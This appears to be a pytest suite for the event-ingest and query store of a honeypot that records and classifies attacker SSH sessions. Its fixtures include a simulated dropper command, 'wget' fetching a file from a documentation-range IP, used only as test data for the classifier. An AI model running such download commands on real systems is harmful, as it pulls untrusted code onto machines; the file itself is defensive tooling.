from __future__ import annotations

import random
from datetime import timedelta

import pytest
from sqlalchemy import event as sqlalchemy_event
from sqlalchemy import func, select
from tests.store.conftest import START, session_id, terminal, visit

from urltrap.model.artifact import Artifact
from urltrap.model.capture import Capture
from urltrap.model.event import (
    Captured,
    Decided,
    DownloadAsked,
    FloodCounted,
    LoginTried,
    Uploaded,
    decode_event,
)
from urltrap.store import Store
from urltrap.store.intake import BURST, DeadLetter, Ingested, Mark, ingest, watermark
from urltrap.store.queries import overview, sessions, top
from urltrap.store.schema import artifacts, dead_letters, events, jobs, metadata
from urltrap.store.schema import sessions as sessions_table


def contents(store: Store) -> dict[str, list[tuple[object, ...]]]:
    """Every row of every table, in a fixed order."""
    with store.connect() as connection:
        return {
            name: sorted((tuple(row) for row in connection.execute(select(table))), key=repr)
            for name, table in metadata.tables.items()
        }


def test_a_batch_that_is_ingested_twice_changes_nothing(store: Store) -> None:
    batch = visit(1, b"wget http://198.51.100.9/x", b"id", logins=3)
    assert ingest(store, "trap-1", batch, (1, 500)) == Ingested(new=len(batch), repeated=0)
    once = contents(store)
    assert ingest(store, "trap-1", batch, (1, 500)) == Ingested(new=0, repeated=len(batch))
    assert contents(store) == once


def test_any_way_of_cutting_and_repeating_batches_gives_the_same_store(store: Store, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from urltrap.store import open_store

    all_events = [
        event
        for n in range(6)
        for event in visit(
            n, b"uname -a", b"cd /tmp", address=f"198.51.100.{n % 2}", logins=n % 3, accepted=n % 2 == 0
        )
    ]
    ingest(store, "w", all_events, (1, len(all_events)))
    whole = contents(store)
    chance = random.Random(4)
    for round_ in range(5):
        other = open_store(str(tmp_path / f"other{round_}.db"))
        at = 0
        while at < len(all_events):
            end = min(len(all_events), at + chance.randint(1, 9))
            back = max(0, at - chance.randint(0, 5))
            ingest(other, "w", all_events[back:end], (1, end))
            at = end
        cut = contents(other)
        for rows in (whole, cut):
            # The database numbers the jobs as they come; what they say must be the same.
            rows["jobs"] = sorted(((0, *row[1:]) for row in rows["jobs"]), key=repr)
        assert cut == whole
        other.close()


def test_an_event_that_stands_twice_in_one_batch_counts_once(store: Store) -> None:
    batch = visit(1, b"id")
    assert ingest(store, "w", [*batch, *batch], (1, 1)).new == len(batch)
    assert overview.counters(store, START).commands == 1


def test_a_failure_in_the_middle_of_a_batch_leaves_no_trace_of_it(store: Store) -> None:
    ingest(store, "w", visit(1, b"id"), (1, 100))
    before = contents(store)
    seen: list[str] = []

    def fail(_connection, _cursor, statement, *_rest) -> None:  # type: ignore[no-untyped-def]
        seen.append(statement)
        if statement.startswith("INSERT INTO hourly"):
            raise RuntimeError("killed here")

    sqlalchemy_event.listen(store.engine, "before_cursor_execute", fail)
    with pytest.raises(RuntimeError, match="killed here"):
        ingest(store, "w", visit(2, b"ls"), (1, 200))
    sqlalchemy_event.remove(store.engine, "before_cursor_execute", fail)
    assert any(statement.startswith("INSERT INTO attacker_sessions") for statement in seen), (
        "nothing came before it"
    )
    assert contents(store) == before
    assert watermark(store, "w") == Mark(1, 100)
    ingest(store, "w", visit(2, b"ls"), (1, 200))
    assert watermark(store, "w") == Mark(1, 200)
    assert overview.counters(store, START).sessions == 2


def test_the_watermark_of_a_writer_never_goes_back(store: Store) -> None:
    assert watermark(store, "w") is None
    ingest(store, "w", visit(1), (2, 10))
    ingest(store, "w", visit(1), (1, 900))
    assert watermark(store, "w") == Mark(2, 10)
    assert watermark(store, "other") is None


@pytest.mark.parametrize(
    ("events_", "classed"),
    [
        (visit(1, logins=0, accepted=False), "probe"),
        (visit(1, logins=4, accepted=False), "brute-force"),
        (visit(1), "login-only"),
        (visit(1, b"id"), "interactive"),
    ],
)
def test_a_session_is_classed_by_what_it_did_at_most(store: Store, events_, classed) -> None:  # type: ignore[no-untyped-def]
    ingest(store, "w", events_, (1, 1))
    assert sessions.page(store).rows[0].classed == classed


def test_asking_for_a_url_makes_a_dropper_and_sending_a_file_an_upload(store: Store) -> None:
    ingest(store, "w", visit(1, b"x"), (1, 1))
    asked = DownloadAsked(
        session=session_id(1), seq=50, at=START, url=b"http://198.51.100.9/x", client="wget"
    )
    ingest(store, "w", [asked], (1, 2))
    assert sessions.page(store).rows[0].classed == "dropper"
    sent = Uploaded(
        session=session_id(1), seq=51, at=START, via="scp", path=b"/tmp/x", size=4, sha256="a" * 64
    )
    ingest(store, "w", [sent], (1, 3))
    row = sessions.page(store).rows[0]
    assert (row.classed, row.artifacts) == ("upload", 1)


def test_a_burst_of_silent_connections_from_one_address_is_a_flood(store: Store) -> None:
    burst = [
        event
        for n in range(BURST + 1)
        for event in visit(n, logins=0, accepted=False, at=START + timedelta(milliseconds=n))
    ]
    ingest(store, "w", burst[: len(burst) // 2], (1, 1))
    assert {row.classed for row in sessions.page(store).rows} == {"probe"}
    ingest(
        store,
        "w",
        [*burst[len(burst) // 2 :], *visit(900, logins=0, accepted=False, address="192.0.2.1")],
        (1, 2),
    )
    classes = {row.src_ip: row.classed for row in sessions.page(store).rows}
    assert classes == {"198.51.100.7": "flood", "192.0.2.1": "probe"}


def test_the_accepted_log_in_names_the_session_and_bytes_come_back_equal(store: Store) -> None:
    ingest(store, "w", visit(1, b"echo \x00\xff\xf0\x9f\x92\xa9", logins=3), (1, 1))
    late = LoginTried(
        session=session_id(1), seq=60, at=START, method="password", username=b"other", accepted=False
    )
    ingest(store, "w", [late], (1, 2))
    row = sessions.page(store).rows[0]
    assert (row.username, row.password, row.login_tries) == (b"root", b"p\xff\x002", 4)
    commands = [row.value for row in top.top(store, "command")]
    assert commands == [b"echo \x00\xff\xf0\x9f\x92\xa9"]


def test_events_come_back_as_they_were(store: Store) -> None:
    batch = visit(1, b"\xff\x00", b"id")
    ingest(store, "w", batch, (1, 1))
    detail = sessions.detail(store, session_id(1))
    assert detail is not None
    assert detail.events == batch


def test_the_terminal_stream_comes_back_in_order_with_its_size(store: Store) -> None:
    ingest(store, "w", [*visit(1), *terminal(1, 70)], (1, 1))
    recording = sessions.recording(store, session_id(1))
    assert recording is not None
    assert recording.frames == [(9, "o", b"$ "), (30, "i", b"\xff"), (40, "o", b"bye")]
    assert (recording.columns, recording.rows, recording.channels) == (100, 30, [3])
    assert sessions.recording(store, session_id(1), channel=4) is None
    assert sessions.recording(store, session_id(2)) is None


def test_events_before_their_connect_event_wait_for_it(store: Store) -> None:
    batch = visit(1, b"id")
    ingest(store, "w", batch[1:], (1, 2))
    assert sessions.page(store).rows == []
    ingest(store, "w", batch[:1], (1, 3))
    row = sessions.page(store).rows[0]
    assert (row.commands, row.sensor, row.classed) == (1, "ssh", "interactive")


def test_shed_connections_are_counted_without_a_session(store: Store) -> None:
    flood = FloodCounted(
        session=session_id(9), seq=0, at=START, sensor="ssh", src_ip="192.0.2.9", since=START, count=5000
    )
    ingest(store, "w", [flood], (1, 1))
    figures = overview.counters(store, START)
    assert (figures.shed, figures.sessions, figures.addresses) == (5000, 0, 1)


def test_a_capture_brings_its_artifact_and_asks_for_analysis_and_judgement(store: Store) -> None:
    capture = Capture(
        url="http://198.51.100.9/x", at=START, outcome="fetched", status=200, sha256="b" * 64, size=9
    )
    ingest(store, "fetcher", [Captured(session=session_id(5), seq=0, at=START, capture=capture)], (1, 1))
    with store.connect() as connection:
        wanted = {(row.stage, row.subject) for row in connection.execute(select(jobs))}
        stored = connection.execute(select(artifacts.c.sha256, artifacts.c.size)).one()
        sessions_made = connection.execute(select(func.count()).select_from(sessions_table)).scalar()
    assert ("analyse", f"{session_id(5)}/0/{'b' * 64}") in wanted
    assert any(stage == "judge" for stage, _ in wanted)
    assert tuple(stored) == ("b" * 64, 9)
    assert sessions_made == 0
    assert Artifact(sha256="b" * 64, size=9).complete


def test_a_record_that_is_no_event_is_kept_with_its_position(store: Store) -> None:
    letter = DeadLetter(3, 77, "from.the.future", "unknown kind", b'{"kind":"from.the.future"}', START)
    ingest(store, "w", [], (3, 99), [letter])
    ingest(store, "w", [], (3, 99), [letter])
    with store.connect() as connection:
        row = connection.execute(select(dead_letters)).one()
    assert (row.writer, row.segment, row.offset, row.record) == ("w", 3, 77, b'{"kind":"from.the.future"}')
    assert watermark(store, "w") == Mark(3, 99)


def test_a_decision_is_kept(store: Store) -> None:
    decision = Decided(
        session=session_id(8), seq=0, at=START, by="me", subject="http://x.test/", decision="allow"
    )
    ingest(store, "ops", [decision], (1, 1))
    with store.connect() as connection:
        body = connection.execute(select(events.c.body)).scalar_one()
    assert decode_event(body) == decision


def test_a_megabyte_command_comes_back_equal(store: Store) -> None:
    text = b"\xfe" * 1_000_000
    ingest(store, "w", visit(1, text), (1, 1))
    detail = sessions.detail(store, session_id(1))
    assert detail is not None
    assert [event.text for event in detail.events if event.kind == "command.entered"] == [text]


def test_asking_which_log_in_methods_there_are_is_no_try(store: Store) -> None:
    batch = visit(1, logins=0, accepted=False)
    asked = LoginTried(
        session=session_id(1), seq=40, at=START, method="none", username=b"root", accepted=False
    )
    ingest(store, "w", [*batch, asked], (1, 1))
    assert sessions.page(store).rows[0].classed == "probe"
    assert (overview.counters(store, START).logins, top.top(store, "username")) == (0, [])
